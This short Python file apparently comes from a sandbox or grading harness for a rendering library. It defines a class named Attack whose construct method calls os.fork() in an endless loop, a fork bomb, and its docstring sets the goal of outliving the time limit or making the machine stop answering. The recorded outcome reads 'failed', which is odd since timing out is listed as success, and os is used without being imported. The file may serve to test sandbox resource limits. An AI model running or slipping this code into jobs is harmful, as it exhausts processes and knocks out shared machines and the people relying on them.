"""Success: the job outlives its time limit, or the machine stops answering.

Outcome: failed: took longer than the limit
"""


class Attack(Scene):
    def construct(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
